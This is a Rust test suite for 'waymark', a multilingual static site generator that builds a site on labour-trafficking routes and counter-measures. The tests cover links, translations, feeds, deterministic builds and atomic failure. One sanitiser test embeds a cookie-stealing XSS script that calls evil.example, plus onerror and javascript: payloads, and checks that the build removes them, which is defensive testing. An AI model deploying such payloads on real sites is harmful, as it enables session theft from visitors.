//! Builds the `mini` fixture site and checks the HTML: cross-links in both
//! directions, fallback notices, hreflang, sitemap, feeds, determinism,
//! atomic failure.

mod common;

use std::path::Path;

use common::{build_ok, fixture, read, site_copy, tree, waymark};

fn built() -> tempfile::TempDir {
    let out = tempfile::tempdir().unwrap();
    build_ok(&fixture("mini"), &out.path().join("output"));
    out
}

#[test]
fn journey_links_countries_measures_and_briefs() {
    let t = built();
    let out = &t.path().join("output");
    file_contains!(out, "en/journeys/fishing.html",
        "<li class=\"stage\" id=\"recruitment\">",
        "<li class=\"stage\" id=\"border\">",
        "href=\"../countries/cambodia.html\"",
        "href=\"../countries/thailand.html\"",
        "id=\"border--fee-waiver\"",
        "href=\"../countermeasures/joint-border-audit.html\"",
        "href=\"../countermeasures/recruiter-register.html\"",
        "href=\"../briefs/report.html\"",
    );
    // Stages in order.
    let j = read(out, "en/journeys/fishing.html");
    assert!(j.find("id=\"recruitment\"").unwrap() < j.find("id=\"border\"").unwrap());
    // The route picture: one mark per risk, each linking to its stage.
    assert_eq!(j.matches("class=\"risk-mark\"").count(), 3);
    assert!(j.contains("<a class=\"risk-mark\" href=\"#border\" data-risk=\"border--tip-off\">"));
}

#[test]
fn measure_links_back_to_targets_and_country() {
    let t = built();
    let out = &t.path().join("output");
    file_contains!(out, "en/countermeasures/joint-border-audit.html",
        "href=\"../journeys/fishing.html#border\"",
        "href=\"../journeys/fishing.html#border--fee-waiver\"",
        "href=\"../countries/thailand.html\"",
        "UNCAC art. 30",
        "Short term",
    );
}

#[test]
fn country_lists_stages_measures_and_briefs() {
    let t = built();
    let out = &t.path().join("output");
    let c = read(out, "en/countries/thailand.html");
    assert!(c.contains("href=\"../journeys/fishing.html#border\""), "stage in the country");
    assert!(c.contains("href=\"../countermeasures/joint-border-audit.html\""), "proposed and targeted");
    assert!(c.contains("href=\"../briefs/report.html\""), "brief that cites it");
    let k = read(out, "en/countries/cambodia.html");
    assert!(k.contains("href=\"../countermeasures/recruiter-register.html\""));
    assert!(k.contains("href=\"../briefs/older.html\""));
    file_contains!(out, "en/briefs/report.html", "href=\"../countries/thailand.html\"", "href=\"../journeys/fishing.html\"");
}

#[test]
fn links_stay_in_the_reader_language() {
    let t = built();
    let out = &t.path().join("output");
    let th = read(out, "th/journeys/fishing.html");
    assert!(th.contains("<html lang=\"th\""));
    // Relative links from a Thai page stay under th/.
    assert!(th.contains("href=\"../countries/thailand.html\""));
    // The Thai title of the measure is used; the country name too.
    assert!(th.contains("การตรวจสอบด่านชายแดนร่วมกัน"));
    assert!(th.contains(">ประเทศไทย<"));
}

#[test]
fn fallback_is_marked_with_lang_and_a_notice() {
    let t = built();
    let out = &t.path().join("output");
    let th = read(out, "th/journeys/fishing.html");
    // No Thai translation of the journey: English text, lang="en", notice.
    assert!(th.contains("class=\"notice notice-missing\""), "notice");
    assert!(th.contains("<h1 lang=\"en\">To a fishing boat</h1>"), "title marked");
    assert!(th.contains("<div class=\"doc-body\" lang=\"en\">"), "body marked");
    // A Thai draft says so; its own text carries no lang override.
    let c = read(out, "th/countries/thailand.html");
    assert!(c.contains("class=\"notice notice-draft\"") || c.contains("class=\"notice notice-outdated\""));
    assert!(c.contains("<h1>ประเทศไทย</h1>"));
    assert!(!c.contains("notice-missing"));
    // English pages have no notice.
    assert!(!read(out, "en/countries/thailand.html").contains("class=\"notice"));
}

#[test]
fn hreflang_sitemap_and_feeds() {
    let t = built();
    let out = &t.path().join("output");
    let p = read(out, "en/briefs/report.html");
    for l in ["en", "th", "lo", "km", "my"] {
        assert!(p.contains(&format!("<link rel=\"alternate\" hreflang=\"{l}\" href=\"https://mini.example/site/{l}/briefs/report.html\">")), "{l}");
        assert!(p.contains(&format!("href=\"../../{l}/briefs/report.html\" lang=\"{l}\" hreflang=\"{l}\"")), "switcher {l}");
    }
    let sm = read(out, "sitemap.xml");
    assert!(sm.contains("<loc>https://mini.example/site/th/journeys/fishing.html</loc>"));
    assert!(sm.contains("<xhtml:link rel=\"alternate\" hreflang=\"km\" href=\"https://mini.example/site/km/journeys/fishing.html\"/>"));
    for l in ["en", "th", "lo", "km", "my"] {
        let feed = read(out, &format!("{l}/atom.xml"));
        assert!(feed.contains(&format!("<link href=\"https://mini.example/site/{l}/briefs/report.html\"/>")));
        assert!(feed.find("report.html").unwrap() < feed.find("older.html").unwrap(), "newest first");
    }
    assert!(out.join("404.html").exists());
    let root = read(out, "index.html");
    for name in ["English", "ລາວ", "ខ្មែរ", "မြန်မာ", "ไทย"] {
        assert!(root.contains(name), "{name}");
    }
}

#[test]
fn markdown_features() {
    let t = built();
    let out = &t.path().join("output");
    let b = read(out, "en/briefs/report.html");
    assert!(b.contains("<table>"));
    assert!(b.contains("class=\"footnote-definition\""));
    assert!(b.contains("class=\"hl-"), "highlighted code");
    let c = read(out, "th/countries/thailand.html");
    // Translated headings reuse the source anchors so links work in every language.
    assert!(c.contains("<h2 id=\"where-corruption-enters\">"));
    assert!(c.contains("href=\"../journeys/fishing.html#border\""));
}

#[test]
fn thai_dates_use_the_buddhist_era() {
    let t = built();
    let out = &t.path().join("output");
    let b = read(out, "th/briefs/report.html");
    assert!(b.contains("datetime=\"2018-04-30\""));
    assert!(b.contains("2561") || b.contains("๒๕๖๑"), "Buddhist Era year");
}

#[test]
fn two_builds_give_the_same_bytes() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    build_ok(&fixture("mini"), &a.path().join("o"));
    build_ok(&fixture("mini"), &b.path().join("o"));
    assert!(tree(&a.path().join("o")) == tree(&b.path().join("o")), "builds differ");
}

#[test]
fn a_build_is_a_value_that_runs_twice_in_one_process() {
    let a = tempfile::tempdir().unwrap();
    let build = waymark::build::Build { root: fixture("mini"), output: Some(a.path().join("o")), drafts: false };
    let r1 = build.run().unwrap();
    let first = tree(&a.path().join("o"));
    let r2 = build.run().unwrap();
    assert!(!r1.failed() && !r2.failed());
    assert!(first == tree(&a.path().join("o")));
}

#[test]
fn failed_build_leaves_previous_output_intact() {
    let site = site_copy("mini");
    let out = site.path().join("output");
    build_ok(site.path(), &out);
    let before = tree(&out);
    std::fs::write(site.path().join("content/briefs/report.md"), "+++\ntitle = \"x\"\ndate = 2018-02-30\n+++\n").unwrap();
    let r = waymark(&["build", "--root", site.path().to_str().unwrap(), "--output", out.to_str().unwrap()]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(before == tree(&out), "output changed after a failed build");
    // No staging folder is left behind.
    let leftovers: Vec<_> = std::fs::read_dir(site.path()).unwrap().flatten().filter(|e| e.file_name().to_string_lossy().contains("waymark-")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn refuses_to_replace_a_folder_it_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let precious = dir.path().join("home");
    std::fs::create_dir_all(&precious).unwrap();
    std::fs::write(precious.join("thesis.txt"), "years of work").unwrap();
    let r = waymark(&["build", "--root", fixture("mini").to_str().unwrap(), "--output", precious.to_str().unwrap()]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("refusing to replace"), "{}", r.stderr);
    assert_eq!(std::fs::read_to_string(precious.join("thesis.txt")).unwrap(), "years of work");
}

#[test]
fn drafts_are_left_out_unless_asked() {
    let site = site_copy("mini");
    std::fs::write(site.path().join("content/pages/secret.md"), "+++\ntitle = \"Secret\"\ndraft = true\n+++\nNot yet.\n").unwrap();
    let out = site.path().join("o1");
    build_ok(site.path(), &out);
    assert!(!out.join("en/pages/secret.html").exists());
    let out2 = site.path().join("o2");
    let r = waymark(&["build", "--drafts", "--root", site.path().to_str().unwrap(), "--output", out2.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(out2.join("en/pages/secret.html").exists());
}

#[test]
fn each_translation_joins_its_own_document() {
    // Slugs where one is the start of another: `a-b.md` sorts before
    // `a.md`, and `a0.md` after `a.th.md`; a source named with the default
    // language (`c.en.md`) as well as plainly (`c.md`): the plain one,
    // later in the walk, counts.
    let site = site_copy("mini");
    let pages = site.path().join("content/pages");
    for slug in ["a", "a-b", "a0"] {
        std::fs::write(pages.join(format!("{slug}.md")), format!("+++\ntitle = \"Page {slug}\"\n+++\nText {slug}.\n")).unwrap();
        std::fs::write(pages.join(format!("{slug}.th.md")), format!("+++\ntitle = \"หน้า {slug}\"\nstatus = \"draft\"\n+++\nข้อความ {slug}\n")).unwrap();
    }
    std::fs::write(pages.join("c.en.md"), "+++\ntitle = \"Page c (en)\"\n+++\nFirst.\n").unwrap();
    std::fs::write(pages.join("c.md"), "+++\ntitle = \"Page c\"\n+++\nSecond.\n").unwrap();
    let out = site.path().join("o");
    build_ok(site.path(), &out);
    for slug in ["a", "a-b", "a0"] {
        let th = read(&out, &format!("th/pages/{slug}.html"));
        assert!(th.contains(&format!("หน้า {slug}<")) && th.contains(&format!("ข้อความ {slug}")), "th/pages/{slug}.html:\n{th}");
        assert!(read(&out, &format!("en/pages/{slug}.html")).contains(&format!("Text {slug}.")));
    }
    assert!(read(&out, "en/pages/c.html").contains("Second."));
}

#[test]
fn crlf_and_bom_are_fine() {
    let site = site_copy("mini");
    let p = site.path().join("content/briefs/report.md");
    let text = std::fs::read_to_string(&p).unwrap().replace('\n', "\r\n");
    std::fs::write(&p, format!("\u{feff}{text}")).unwrap();
    let out = site.path().join("o");
    build_ok(site.path(), &out);
    assert!(read(&out, "en/briefs/report.html").contains("Workshop report"));
}

#[test]
fn check_writes_nothing() {
    let site = site_copy("mini");
    let r = waymark(&["check", "--root", site.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!site.path().join("output").exists());
    let _ = Path::new(".");
}

#[test]
fn hostile_html_is_neutralised_and_reported() {
    let site = site_copy("mini");
    std::fs::write(
        site.path().join("content/pages/about.md"),
        "+++\ntitle = \"About\"\n+++\nHello.\n\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n\n<img src=\"https://tracker.example/p.gif\" onerror=\"alert(1)\">\n\n[click](javascript:alert(1)) and [ok](https://example.org/)\n",
    )
    .unwrap();
    let out = site.path().join("o");
    let r = waymark(&["build", "--root", site.path().to_str().unwrap(), "--output", out.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("content/pages/about.md:6:1: warning: raw HTML with a <script> element was removed"), "{}", r.stderr);
    assert!(r.stderr.contains("content/pages/about.md:8:1: warning: raw HTML with"), "{}", r.stderr);
    assert!(r.stderr.contains("content/pages/about.md:10:9: warning: link with a 'javascript:' URL was removed"), "{}", r.stderr);
    let html = read(&out, "en/pages/about.html");
    for bad in ["<script>fetch", "evil.example", "tracker.example", "onerror", "javascript:"] {
        assert!(!html.contains(bad), "{bad} survived");
    }
    assert!(html.contains("<a href=\"https://example.org/\" rel=\"noopener noreferrer\">ok</a>"), "external link rel");
    assert!(html.contains("http-equiv=\"Content-Security-Policy\""));
}

#[test]
fn the_whole_site_is_downloadable_as_one_zip() {
    let t = built();
    let out = &t.path().join("output");
    for l in ["en", "th", "lo", "km", "my"] {
        assert!(read(out, &format!("{l}/index.html")).contains("href=\"../download/site.zip\""), "{l} home links the archive");
    }
    let bytes = std::fs::read(out.join("download/site.zip")).unwrap();
    assert_eq!(&bytes[..4], b"PK\x03\x04");
    // Every page is in it, under one folder.
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("site/en/journeys/fishing.html") && text.contains("site/th/index.html") && text.contains("site/static/css/style.css"));
}

#[cfg(unix)]
#[test]
fn symbolic_links_are_refused() {
    let site = site_copy("mini");
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.md"), "+++\ntitle = \"Secret\"\n+++\nfrom outside\n").unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.md"), site.path().join("content/pages/secret.md")).unwrap();
    std::fs::create_dir_all(site.path().join("content/media")).unwrap();
    std::os::unix::fs::symlink(outside.path(), site.path().join("content/media/outside")).unwrap();
    let r = waymark(&["check", "--root", site.path().to_str().unwrap()]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/pages/secret.md:1:1: error: symbolic links are not allowed in content/"), "{}", r.stderr);
    assert!(r.stderr.contains("content/media/outside:1:1: error: symbolic links are not allowed in content/"), "{}", r.stderr);
}

#[cfg(unix)]
#[test]
fn interrupted_build_leaves_the_previous_output_and_no_staging() {
    let site = site_copy("mini");
    let out = site.path().join("output");
    build_ok(site.path(), &out);
    let before = tree(&out);
    // Interrupt builds at several moments (loading, rendering, the archive,
    // swapping folders, or after the end): nothing may be lost or left over.
    for ms in [5, 20, 40, 60, 90, 130] {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_waymark"))
            .args(["build", "--root", site.path().to_str().unwrap(), "--output", out.to_str().unwrap()])
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(ms));
        unsafe { libc_kill(child.id() as i32, 2) };
        let _ = child.wait();
        let after = tree(&out);
        assert!(!after.is_empty(), "output lost (interrupted after {ms} ms)");
        assert!(after == before, "output changed by a build interrupted after {ms} ms");
        let leftovers: Vec<_> = std::fs::read_dir(site.path()).unwrap().flatten().filter(|e| e.file_name().to_string_lossy().contains("waymark-")).collect();
        assert!(leftovers.is_empty(), "after {ms} ms: {leftovers:?}");
    }
}

#[cfg(unix)]
extern "C" {
    #[link_name = "kill"]
    fn libc_kill(pid: i32, sig: i32) -> i32;
}

/// Builds the `mini` fixture, replaces "About this site." in its about page
/// with `about`, and builds again with files limited to `kib` KiB (`ulimit
/// -f`: writes past it fail with EFBIG, as root too, as on a full disk).
/// The second build must be an I/O failure (exit status 2) that leaves the
/// previous output exactly as it was and no staging folder behind; returns
/// what it printed.
#[cfg(unix)]
fn failed_build_with_file_size_limit(about: &str, kib: u32) -> String {
    let site = site_copy("mini");
    let out = site.path().join("output");
    build_ok(site.path(), &out);
    let p = site.path().join("content/pages/about.md");
    std::fs::write(&p, std::fs::read_to_string(&p).unwrap().replace("About this site.", about)).unwrap();
    let before = tree(&out);
    let script = format!("trap '' XFSZ; ulimit -f {kib}; exec '{}' build --root '{}' --output '{}'", env!("CARGO_BIN_EXE_waymark"), site.path().display(), out.display());
    let r = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
    let stderr = String::from_utf8_lossy(&r.stderr).into_owned();
    // An I/O failure, not a content error: exit status 2.
    assert_eq!(r.status.code(), Some(2), "{stderr}");
    assert!(tree(&out) == before, "output changed after a failed write");
    let leftovers: Vec<_> = std::fs::read_dir(site.path()).unwrap().flatten().filter(|e| e.file_name().to_string_lossy().contains("waymark-")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    stderr
}

/// A write failure in the middle of a build (the download archive grows
/// past 40 KiB; every page differs, so the build must write new files).
#[cfg(unix)]
#[test]
fn write_failure_midway_leaves_previous_output() {
    let stderr = failed_build_with_file_size_limit("About this site, changed.", 40);
    assert!(stderr.contains("error: cannot write"), "{stderr}");
}

/// Pages that cannot be written while rendering (here: larger than the
/// file-size limit) are one I/O failure, not a content error per page.
#[cfg(unix)]
#[test]
fn page_write_failures_are_one_io_error() {
    let stderr = failed_build_with_file_size_limit(&"A paragraph about this site that is long enough. ".repeat(3000), 80);
    assert!(stderr.contains("error: cannot write ") && stderr.contains("pages/about.html"), "{stderr}");
    assert_eq!(stderr.lines().filter(|l| l.contains("cannot write")).count(), 1, "{stderr}");
}

#[test]
fn matrix_is_a_grid_with_few_countries_and_grouped_lists_with_many() {
    // The fixture's two proposing countries make a grid.
    let site = site_copy("mini");
    let out = site.path().join("output");
    build_ok(site.path(), &out);
    let grid = read(&out, "en/countermeasures/matrix.html");
    assert!(grid.contains("<th scope=\"col\"><a href=\"../countries/cambodia.html\">Cambodia</a></th>"), "{grid}");
    // Fourteen proposing countries: one row per stage, measures grouped by country.
    for n in 1..=12 {
        std::fs::write(site.path().join(format!("content/countries/land-{n}.md")), format!("+++\ntitle = \"Land {n}\"\niso = \"{}\"\n+++\nText.\n", ["FR", "DE", "IT", "ES", "PT", "NL", "BE", "SE", "NO", "FI", "DK", "PL"][n - 1])).unwrap();
        std::fs::write(
            site.path().join(format!("content/countermeasures/land-{n}.toml")),
            format!("country = \"land-{n}\"\n\n[[measures]]\nid = \"measure-of-land-{n}\"\ntitle = \"Measure of land {n}\"\ntargets = [\"fishing/border\"]\nagencies = [\"labour\"]\ninstruments = [\"UNCAC art. 13\"]\nhorizon = \"short\"\n"),
        )
        .unwrap();
    }
    build_ok(site.path(), &out);
    let list = read(&out, "en/countermeasures/matrix.html");
    assert!(!list.contains("<th scope=\"col\"><a href=\"../countries/cambodia.html\">"), "no country columns");
    assert!(list.contains("<th scope=\"col\">Counter-measures, by proposing country</th>"), "{list}");
    assert!(list.contains("<dt><a href=\"../countries/land-7.html\">Land 7</a></dt><dd><a href=\"../countermeasures/measure-of-land-7.html\">Measure of land 7</a></dd>"), "{list}");
    assert!(read(&out, "th/countermeasures/matrix.html").contains("มาตรการรับมือ จำแนกตามประเทศที่เสนอ"));
}
